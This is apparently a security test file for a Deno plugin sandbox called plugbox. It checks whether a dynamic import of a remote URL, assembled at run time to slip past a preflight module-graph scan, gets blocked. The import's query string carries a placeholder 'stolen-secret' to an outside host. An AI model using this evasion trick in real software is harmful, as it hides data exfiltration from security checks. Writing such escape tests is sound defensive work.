// T3: a remote import computed at run time is not in the module graph the preflight sees.
import { implement, serve } from "@plugbox/plugbox/plugin";
import { Probe } from "./probe.ts";

async function attack(url?: string): Promise<string> {
  const target = url ?? ["https:", "", "esm.sh", "left-pad?data=stolen-secret"].join("/");
  try {
    await import(target);
    return "imported";
  } catch (error) {
    return `refused: ${String(error).split("\n")[0]}`;
  }
}

if (!Deno.args.some((a) => a.startsWith("--plugbox-nonce="))) {
  console.error(await attack(Deno.args[0]));
} else {
  await serve(implement(Probe, { attempt: attack }));
}
